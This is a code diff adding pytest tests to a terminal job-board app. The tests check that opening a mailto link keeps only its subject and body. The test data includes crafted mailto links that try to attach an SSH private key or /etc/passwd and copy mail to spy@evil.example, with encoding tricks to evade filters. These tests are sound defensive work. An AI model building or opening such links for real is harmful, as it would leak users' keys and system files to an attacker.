@@ -510,3 +510,44 @@ def test_workers_die_with_the_command(tmp_path: Path, how: str):
         except ProcessLookupError:
             pass
         command.wait()
+
+
+# -- a mailto link hands the mail client a subject and a body, nothing more -----------------------
+
+
+@pytest.mark.parametrize(
+    ("url", "opened"),
+    [
+        (
+            "mailto:jobs@org.org?subject=Application&attach=/root/.ssh/id_rsa&cc=spy@evil.example&bcc=x@y.z"
+            "&body=Hello%20there",
+            "mailto:jobs@org.org?subject=Application&body=Hello%20there",
+        ),
+        (
+            "mailto:jobs@org.org?ATTACH=%2Froot%2F.ssh%2Fid_rsa&%61ttach=x&To=a@b.c&Subject=Hi",
+            "mailto:jobs@org.org?Subject=Hi",
+        ),
+        ("mailto:jobs@org.org?attachment=/etc/passwd#frag", "mailto:jobs@org.org"),
+        ("mailto:jobs@org.org", "mailto:jobs@org.org"),
+        ("https://org.org/jobs?attach=1", "https://org.org/jobs?attach=1"),  # a web link as written
+    ],
+)
+def test_only_the_subject_and_body_of_a_mailto_link_are_opened(url: str, opened: str):
+    from tui.posting import link_to_open
+
+    assert link_to_open(url) == opened
+
+
+async def test_o_on_a_mailto_link_leaves_out_its_headers(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
+    url = "mailto:jobs@org.org?subject=Application&attach=/root/.ssh/id_rsa&cc=spy@evil.example&body=Hi"
+    write(tmp_path / "b", "a.md", f"---\ntitle: 'Org: Role'\n---\n[Apply]({url})\n")
+    opened: list[str] = []
+    monkeypatch.setenv("BROWSER", "true")
+    app = JobBoard(tmp_path / "b", cache_dir=None)
+    monkeypatch.setattr(app, "open_url", lambda url, **kw: opened.append(url))
+    async with app.run_test(size=(120, 36)) as pilot:
+        await ready(pilot)
+        await pilot.press("o")
+        assert opened == ["mailto:jobs@org.org?subject=Application&body=Hi"]
+        await pilot.press("y")  # copied as the posting wrote it
+        assert app.clipboard == url
